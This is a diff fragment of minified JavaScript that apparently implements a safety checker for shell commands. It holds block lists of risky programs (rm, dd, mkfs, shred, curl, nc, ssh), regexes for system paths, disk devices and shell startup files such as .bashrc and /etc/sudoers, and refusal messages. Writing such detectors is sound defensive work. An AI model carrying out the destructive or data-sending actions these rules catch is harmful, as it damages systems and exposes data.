+","without","than","avoid","don't","about","whether","why"],"before_verbs":["to","will","and","please","should","let's","i'll","we'll","me","us","then","must","\
+can","now","next","also","just","or"],"shells":["sh","bash","zsh","shell","console","terminal","shell-session","shellscript"],"command_names":["git","rm","sudo"\
+,"curl","wget","chmod","chown","dd","mkfs","kubectl","docker","terraform","psql","mysql","redis-cli","npm","pip","cargo","gem","twine","aws","gcloud","az","syst\
+emctl","iptables","ufw","crontab","ssh","scp","rsync","nc","kill","pkill","killall","shred","truncate","shutdown","reboot","find","tar","cat","mv","cp","bash","\
+sh","python","python3","node","helm","gh","useradd","passwd","mount","umount","eval","openssl","gpg"],"command_verbs":["push","reset","clean","checkout","restor\
+e","branch","stash","rebase","filter-branch","filter-repo","reflog","gc","clone","pull","fetch","commit","delete","apply","scale","drain","exec","destroy","syst\
+em","volume","rmi","run","publish","unpublish","yank","upload","stop","disable","mask","s3","ec2","rds","rm","prune","flushall","uninstall","release","repo"],"f\
+ences":{"python":"python3 -c","py":"python3 -c","js":"node -e","javascript":"node -e","sql":"psql -c"},"irregular":{"send":"sent","put":"put","set":"set","shut"\
+:"shut","write":"written","give":"given","tear":"torn","blow":"blown","get":"got","read":"read","take":"taken","steal":"stolen","make":"made","overwrite":"overw\
+ritten","rewrite":"rewritten","bring":"brought","force-push":"force-pushed"},"classes":{"root":"^/\\\\*?$","home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|/root|/home|/users)\
+(?:/(?:[^/\\\\s]*|\\\\*)?)?$","system-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|usr|bin|sbin|boot|lib(?:32|64)?|var|sys|proc|dev|root|hom\
+e|opt|srv|mnt|media)(?:/|$)|^[a-z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\\\\w*","startup-file\
+":"(?:^|/)\\\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\\\\.fish$|^/etc/(?:p\
+rofile|rc\\\\.local|cron|init\\\\.d|systemd|ld\\\\.so\\\\.preload|sudoers|environment)","url":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d{1,3}){3}(?::\\\\d+)?\
+|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:com|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"},"refusals":{"unreadable-\
+command":"The command $. Write it plainly, or in several steps.","unparsed-command":"No shell reads this: $. Give the command alone; what is no command belongs \
+in a file or an answer.","unverifiable-command":"Nobody can say before it runs which program this is, and it may be a dangerous one. $","unreadable-text":"The t\
+ext is too long to be judged. Say it in parts."}}}`);var mn=["reads","writes","deletes","moves","changes"],Tk=Object.keys(G.paths.classes),Yu=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),Pr=t=>Yu(
 t,e=>new Set(e)),ll=t=>Yu(t,([e,s])=>new RegExp(e,s)),{irregular:Pk,classes:Rk,fences:Ik,refusals:qk,...Ok}=G.sentences,Ee=t=>new Map(Object.entries(t)),S={grammars:Ee(
 G.arguments.grammars),grammarAliases:Ee(G.arguments.aliases),gitOptions:Ee(G.arguments.git_options),dryRuns:Ee(G.arguments.dry_runs),help:Pr(G.arguments.help),roles:Ee(
 G.arguments.roles),programWords:Pr(G.programs.words),interpreters:Ee(G.programs.interpreters),consoles:Ee(G.programs.consoles),wrappers:Ee(G.programs.wrappers),
@@ -3465,40 +3467,40 @@ program:t})=>qf.has(t)||Yx.has(t);function Zx(t){let e=t.redirects.filter(({kind
 t)]:[]}function If(t,e){let s=t.replace(Xx.new_path,"/tmp/new");return s.includes("\uFFFC")?void 0:Tn(s,e?.text)}fr();var{forms:Y}=S,Lf=t=>t.program==="git"&&a0(t)||i0(t)||s0(t)||o0(t)||r0(t)||n0(t)||e0(t)||t0(t);function e0({program:t,invocation:e,context:{invocations:s}}){let{
 client:r,needs:n=[],wrappers:o,environment:i}=e;if(!/^(?:kubectl|helm)$/.test(t)||r!==void 0||o.length>0)return!1;if(!("KUBECONFIG"in i)&&Y.local_cluster.test(le(
 e)))return!0;let a=u=>Y.cluster_settings.exec(le(u))?.[1]??u.environment.KUBECONFIG?.text,l=a(e),c=n.find(u=>Y.cluster_creation.test(le(u))&&a(u)===l),d=u=>Y.cluster_tool.
-test(u.program)&&!Y.other_cluster.test(le(u).replace(Y.cluster_settings," "))&&u.redirects.every(({path:p})=>p.text!==l);return c!==void 0&&s.slice(s.indexOf(c)).
-every(d)}function t0({program:t,invocation:e,context:{invocations:s}}){let{client:r=e,needs:n=[]}=e;if(e.client===void 0&&!Y.database_client.test(t))return!1;let o=`\
- ${r.args.map(({text:m})=>m).join(" ")} `,i=[...o.matchAll(Y.server_place)].map(([,m,h])=>m??h),a=({text:m})=>!/\s/.test(m)&&/[/@:]/.test(m)&&!i.some(h=>m.includes(
-h)),l=r.program.startsWith("my")&&!/ (?:-h ?|--host[= ])127\.0\.0\.1 | -S /.test(o),c=Object.keys(r.environment).some(m=>Y.place_variable.test(m)),d=s.some(m=>Y.
-forwarding_program.test(m.program));if(i.length===0||l||c||d||Y.other_server.test(o)||r.args.some(a))return!1;let u=s.slice(0,Math.max(0,s.indexOf(e))).filter(({
-wrappers:m})=>m.length===0),p=(m,h)=>Y.container_start.test(le(m))&&le(m).replace("-p 127.0.0.1:","-p ").includes(` -p ${h}:`),f=(m,h)=>!Y.usual_port.test(h)&&Y.
-server_start.exec(`${le(m)} `)?.[1]===h;return i.every(m=>m.startsWith("/")?u.some(h=>Y.server_program.test(h.program)):n.some(h=>p(h,m))||u.some(h=>f(h,m)))}var Fr=t=>t.
-includes(S.uniqueMark);function s0({program:t,operands:e,invocation:s,context:{invocations:r}}){let n=s.args.map(({text:c})=>c),o=n.filter(Fr),i=e.findIndex(({text:c})=>Fr(
-c)),a=i<3&&(i===-1||e.slice(i).every(({text:c})=>Fr(c)));if(t==="kubectl"||o.length===0||!a||i===-1&&e.length>3)return!1;let l=(c,d)=>!Fr(c)||Y.naming_option.test(
-c.startsWith("-")?c:n[d-1]??"");return i===-1&&!n.every(l)?!1:r.slice(0,Math.max(0,r.indexOf(s))).some(c=>{let d=c.args.map(({text:f})=>f);return(d.some(f=>Y.making_word.
-test(f))&&c.program===t&&!d.some(f=>Y.referring_word.test(f))||t==="dropdb"&&c.program==="createdb")&&(Y.name_maker.test(d.join(" "))||o.every(f=>d.includes(f)))})}
-function r0({invocation:t,context:{invocations:e}}){let[,s]=Y.named_here.exec(le(t))??[],r=e.some(i=>Y.context_change.test(le(i))),n=Object.keys(t.environment).
-some(i=>Y.compose_variable.test(i));if(s===void 0||t.wrappers.length>0||r||n)return!1;let[o=""]=s.split("/").slice(-1);return Y.test_thing.test(o)&&Df(o)}function n0({
-program:t,invocation:e,context:{invocations:s}}){let{environment:r,wrappers:n}=e,{GNUPGHOME:o,COMPOSE_PROJECT_NAME:i}=r;if(n.length>0||s.some(l=>Y.brings_files.
-test(l.program)))return!1;let a=le(e);return/^gpg2?$/.test(t)?o!==void 0&&Y.new_folder.test(o.text)&&!/ --ho/.test(a):Y.compose_down.test(a)&&Fr(i?.text??Y.project_name.
-exec(a)?.[1]??"")}var Df=t=>Y.scratch_name.test(t)&&!Y.kept_name.test(t);function o0({program:t,invocation:e,context:{invocations:s}}){let[,r]=Y.git_abort.exec(
-oe(e.args).text)??[],n=s.slice(0,Math.max(0,s.indexOf(e))),o=a=>Jl(a)&&a.args[0]?.text===r&&a.folder?.text===e.folder?.text,i=a=>a.args.some(({text:l})=>Y.git_step.
-test(l));return t==="git"&&r!==void 0&&n.some(a=>o(a)&&!i(a))}function i0({program:t,invocation:e,context:{invocations:s}}){let r=S.creations.get(t);if(!r)return!1;
-let[n,o]=Nf(e),[,i]=new RegExp(r.destroys).exec(n)??[],a=i!==void 0&&Y.new_folder.test(i),l=u=>Y.near_wrapper.test(u)||a&&Y.code_wrapper.test(u);if(i===void 0||
-!e.wrappers.every(l))return!1;let c=Df(i)||Fr(i)||Y.temporary_file.test(i),d=new RegExp(r.makes);return s.slice(0,Math.max(0,s.indexOf(e))).some(u=>{let[p,f]=Nf(
-u),m=Y.makes_new.test(`${u.program} ${p}`),h=c||m&&!i.includes("\uFFFC")&&e.needs?.includes(u),g=u.program===r.maker&&d.exec(p)?.slice(1).includes(i);return h&&
-g&&f===o})}function Nf(t){let{program:e,args:s,folder:r,environment:n,client:o,wrappers:i}=t,a=s.map(({text:h})=>h),{operands:l,options:c}=$e(e,s),d=c.filter(({
-flag:h})=>h==="--name").map(({value:h})=>h.text),u=e==="git"?a:[...l.map(({text:h})=>h),...d],p=a.filter(h=>!u.includes(h)&&!Y.placeless_flag.test(h)),f=o?.args.
-flatMap(({text:h})=>/\s/.test(h)?[]:[h]),m=[e==="git"?[]:p,r?.text,n,f,i];return[u.join(" "),JSON.stringify(m)]}function a0(t){let{environment:e,folder:s,args:r}=t.
-invocation,[n=""]=t.operands.map(({text:l})=>l);if(n==="push")return l0(t);if(s===void 0||!jf(s.text,t)||"GIT_DIR"in e||"GIT_WORK_TREE"in e)return!1;let o=t.context.
-invocations.map(l=>oe(l.args).text);if(o.some(l=>/core\.worktree|^-\S*s\S* .* \/tmp\//i.test(l))||Object.values(e).some(({text:l})=>/core\.worktree/i.test(l)))return!1;
-let i=Y.new_folder.test(s.text)&&t.invocation.language!=="shell",a=({program:l,redirects:c})=>Y.brings_files.test(l)||c.some(({path:d})=>/\.git$/.test(d.text));
-return i&&!t.context.invocations.some(a)&&!o.some(l=>/worktree|git-?dir/i.test(l))?!0:S.programWords.tree_commands.has(n)?!r.some(({text:l})=>/^[/~]/.test(l)):Wf(
-s.text,t)}function jf(t,{context:{workspace:e,folder:s=e}}){let r=[e,s].some(n=>Xl(t,n)||Xl(n,t));return Y.temporary_file.test(t)&&!r}function l0(t){let{operands:e,
-invocation:s,context:r}=t,[,n="origin"]=e.map(({text:l})=>l);if(Y.temporary_file.test(n))return!0;let i=r.invocations.filter(Jl).map(({args:l})=>oe(l).text).some(
-l=>Y.remote_setting.test(l)),a=s.folder?.text??"";return n==="origin"&&!i&&jf(a,t)&&Wf(a,t,Y.temporary_file)}var Wf=(t,{context:e},s=/(?:)/)=>e.invocations.some(
-r=>Jl(r)&&Xl(t,c0(r,s))),Jl=({program:t})=>t==="git",Xl=(t,e)=>e!==void 0&&`${t}/`.startsWith(`${e}/`);function c0({args:t,folder:e},s){let[r,n="",o]=$e("git",t).
-operands.map(({text:i})=>i);if(r==="init")return[n,e?.text].find(i=>i!==void 0&&Y.new_folder.test(i));if(!(r!=="clone"||o===void 0||!s.test(n)))return o.startsWith(
-"/")||e===void 0?o:`${e.text}/${o}`}var{ownData:Pn,interpreters:d0,clients:u0,forms:Ft}=S;function Ff(t){let{program:e,operands:s,invocation:r}=t,{client:n}=r;if(e==="sql")return n!==void 0&&(p0(t,
+test(u.program)&&!Y.other_cluster.test(le(u).replace(Y.cluster_settings," "))&&u.redirects.every(({path:p})=>p.text!==l);return c!==void 0&&!l?.includes(":")&&s.
+slice(s.indexOf(c)).every(d)}function t0({program:t,invocation:e,context:{invocations:s}}){let{client:r=e,needs:n=[]}=e;if(e.client===void 0&&!Y.database_client.
+test(t))return!1;let o=` ${r.args.map(({text:m})=>m).join(" ")} `,i=[...o.matchAll(Y.server_place)].map(([,m,h])=>m??h),a=({text:m})=>!/\s/.test(m)&&/[/@:]/.test(
+m)&&!i.some(h=>m.includes(h)),l=r.program.startsWith("my")&&!/ (?:-h ?|--host[= ])127\.0\.0\.1 | -S /.test(o),c=Object.keys(r.environment).some(m=>Y.place_variable.
+test(m)),d=s.some(m=>Y.forwarding_program.test(m.program));if(i.length===0||l||c||d||Y.other_server.test(o)||r.args.some(a))return!1;let u=s.slice(0,Math.max(0,
+s.indexOf(e))).filter(({wrappers:m})=>m.length===0),p=(m,h)=>Y.container_start.test(le(m))&&le(m).replace("-p 127.0.0.1:","-p ").includes(` -p ${h}:`),f=(m,h)=>!Y.
+usual_port.test(h)&&Y.server_start.exec(`${le(m)} `)?.[1]===h;return i.every(m=>m.startsWith("/")?u.some(h=>Y.server_program.test(h.program)):n.some(h=>p(h,m))||
+u.some(h=>f(h,m)))}var Fr=t=>t.includes(S.uniqueMark);function s0({program:t,operands:e,invocation:s,context:{invocations:r}}){let n=s.args.map(({text:c})=>c),o=n.
+filter(Fr),i=e.findIndex(({text:c})=>Fr(c)),a=i<3&&(i===-1||e.slice(i).every(({text:c})=>Fr(c)));if(t==="kubectl"||o.length===0||!a||i===-1&&e.length>3)return!1;
+let l=(c,d)=>!Fr(c)||Y.naming_option.test(c.startsWith("-")?c:n[d-1]??"");return i===-1&&!n.every(l)?!1:r.slice(0,Math.max(0,r.indexOf(s))).some(c=>{let d=c.args.
+map(({text:f})=>f);return(d.some(f=>Y.making_word.test(f))&&c.program===t&&!d.some(f=>Y.referring_word.test(f))||t==="dropdb"&&c.program==="createdb")&&(Y.name_maker.
+test(d.join(" "))||o.every(f=>d.includes(f)))})}function r0({invocation:t,context:{invocations:e}}){let[,s]=Y.named_here.exec(le(t))??[],r=e.some(i=>Y.context_change.
+test(le(i))),n=Object.keys(t.environment).some(i=>Y.compose_variable.test(i));if(s===void 0||t.wrappers.length>0||r||n)return!1;let[o=""]=s.split("/").slice(-1);
+return Y.test_thing.test(o)&&Df(o)}function n0({program:t,invocation:e,context:{invocations:s}}){let{environment:r,wrappers:n}=e,{GNUPGHOME:o,COMPOSE_PROJECT_NAME:i}=r;
+if(n.length>0||s.some(l=>Y.brings_files.test(l.program)))return!1;let a=le(e);return/^gpg2?$/.test(t)?o!==void 0&&Y.new_folder.test(o.text)&&!/ --ho/.test(a):Y.
+compose_down.test(a)&&Fr(i?.text??Y.project_name.exec(a)?.[1]??"")}var Df=t=>Y.scratch_name.test(t)&&!Y.kept_name.test(t);function o0({program:t,invocation:e,context:{
+invocations:s}}){let[,r]=Y.git_abort.exec(oe(e.args).text)??[],n=s.slice(0,Math.max(0,s.indexOf(e))),o=a=>Jl(a)&&a.args[0]?.text===r&&a.folder?.text===e.folder?.
+text,i=a=>a.args.some(({text:l})=>Y.git_step.test(l));return t==="git"&&r!==void 0&&n.some(a=>o(a)&&!i(a))}function i0({program:t,invocation:e,context:{invocations:s}}){
+let r=S.creations.get(t);if(!r)return!1;let[n,o]=Nf(e),[,i]=new RegExp(r.destroys).exec(n)??[],a=i!==void 0&&Y.new_folder.test(i),l=u=>Y.near_wrapper.test(u)||a&&
+Y.code_wrapper.test(u);if(i===void 0||!e.wrappers.every(l))return!1;let c=Df(i)||Fr(i)||Y.temporary_file.test(i),d=new RegExp(r.makes);return s.slice(0,Math.max(
+0,s.indexOf(e))).some(u=>{let[p,f]=Nf(u),m=Y.makes_new.test(`${u.program} ${p}`),h=c||m&&!i.includes("\uFFFC")&&e.needs?.includes(u),g=u.program===r.maker&&d.exec(
+p)?.slice(1).includes(i);return h&&g&&f===o})}function Nf(t){let{program:e,args:s,folder:r,environment:n,client:o,wrappers:i}=t,a=s.map(({text:h})=>h),{operands:l,
+options:c}=$e(e,s),d=c.filter(({flag:h})=>h==="--name").map(({value:h})=>h.text),u=e==="git"?a:[...l.map(({text:h})=>h),...d],p=a.filter(h=>!u.includes(h)&&!Y.placeless_flag.
+test(h)),f=o?.args.flatMap(({text:h})=>/\s/.test(h)?[]:[h]),m=[e==="git"?[]:p,r?.text,n,f,i];return[u.join(" "),JSON.stringify(m)]}function a0(t){let{environment:e,
+folder:s,args:r}=t.invocation,[n=""]=t.operands.map(({text:l})=>l);if(n==="push")return l0(t);if(s===void 0||!jf(s.text,t)||"GIT_DIR"in e||"GIT_WORK_TREE"in e)return!1;
+let o=t.context.invocations.map(l=>oe(l.args).text);if(o.some(l=>/core\.worktree|^-\S*s\S* .* \/tmp\//i.test(l))||Object.values(e).some(({text:l})=>/core\.worktree/i.
+test(l)))return!1;let i=Y.new_folder.test(s.text)&&t.invocation.language!=="shell",a=({program:l,redirects:c})=>Y.brings_files.test(l)||c.some(({path:d})=>/\.git$/.
+test(d.text));return i&&!t.context.invocations.some(a)&&!o.some(l=>/worktree|git-?dir/i.test(l))?!0:S.programWords.tree_commands.has(n)?!r.some(({text:l})=>/^[/~]/.
+test(l)):Wf(s.text,t)}function jf(t,{context:{workspace:e,folder:s=e}}){let r=[e,s].some(n=>Xl(t,n)||Xl(n,t));return Y.temporary_file.test(t)&&!r}function l0(t){
+let{operands:e,invocation:s,context:r}=t,[,n="origin"]=e.map(({text:l})=>l);if(Y.temporary_file.test(n))return!0;let i=r.invocations.filter(Jl).map(({args:l})=>oe(
+l).text).some(l=>Y.remote_setting.test(l)),a=s.folder?.text??"";return n==="origin"&&!i&&jf(a,t)&&Wf(a,t,Y.temporary_file)}var Wf=(t,{context:e},s=/(?:)/)=>e.invocations.
+some(r=>Jl(r)&&Xl(t,c0(r,s))),Jl=({program:t})=>t==="git",Xl=(t,e)=>e!==void 0&&`${t}/`.startsWith(`${e}/`);function c0({args:t,folder:e},s){let[r,n="",o]=$e("g\
+it",t).operands.map(({text:i})=>i);if(r==="init")return[n,e?.text].find(i=>i!==void 0&&Y.new_folder.test(i));if(!(r!=="clone"||o===void 0||!s.test(n)))return o.
+startsWith("/")||e===void 0?o:`${e.text}/${o}`}var{ownData:Pn,interpreters:d0,clients:u0,forms:Ft}=S;function Ff(t){let{program:e,operands:s,invocation:r}=t,{client:n}=r;if(e==="sql")return n!==void 0&&(p0(t,
 n)||Mf(n));if(Ft.http_client.test(e)){let o=s.filter(({text:a})=>/[/:]/.test(a)),i=({text:a})=>Ft.loopback.test(a)&&Ft.test_name.test(a);return o.length>0&&o.every(
 i)}return Zl(r,Pn.endpoints,o=>Ft.loopback.test(o))||Zl(r,Pn.addresses,o=>Ft.passing_address.test(o))?!0:!u0.has(e)&&e!=="gsutil"&&Mf(r)}function Zl({args:t,environment:e},s,r){
 let o=[...t.flatMap(({text:i},a)=>{let[,l,c="",d]=/^(--?)?([A-Za-z][\w-]*)(?:=([\s\S]*))?$/.exec(i)??[];return s.includes(c)&&(l!==void 0||d!==void 0)?[d??t[a+1]?.
